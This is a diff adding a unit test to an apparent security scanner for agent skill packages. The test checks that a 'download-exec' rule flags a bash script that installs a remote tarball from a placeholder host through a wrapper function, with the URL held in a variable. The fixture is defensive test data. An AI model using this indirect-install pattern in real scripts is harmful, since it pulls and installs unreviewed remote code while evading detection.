@@ -2391,3 +2391,24 @@ test('download-exec (eighth pass): a saved download made executable in Python', 
   // read-only permissions: nothing readied to run
   assert.deepEqual(f('os.chmod(BIN, 0o644)'), []);
 });
+
+// Issue 28 (eighth pass, h30): a tarball URL held in a variable and installed through the skill's own wrapper function
+// (`add() { … pnpm add -D "$@" ;; … }` … `add "$PERF_TGZ"`).
+test('download-exec (eighth pass): an install through a shell wrapper with the URL in a variable', () => {
+  const sh = lines(
+    '#!/usr/bin/env bash',
+    'add() {',
+    '  case "$PM" in',
+    '    npm)  npm install --save-dev "$@" ;;',
+    '    pnpm) pnpm add -D "$@" ;;',
+    '  esac',
+    '}',
+    'add @storybook/addon-a11y',
+    'PERF_TGZ="https://cdn.addon-hub.invalid/pkgs/addon-perf-8.0.4.tgz"',
+    'add "$PERF_TGZ"',
+  );
+  const f = scan({ 'SKILL.md': skillMd('addons', 'Run `scripts/install.sh`.'), 'scripts/install.sh': sh })
+    .filter((x) => x.ruleId === 'sentinel/download-exec')
+    .map((x) => `${where(x)} ${x.severity}`);
+  assert.deepEqual(f, ['scripts/install.sh:10:6 error']);
+});
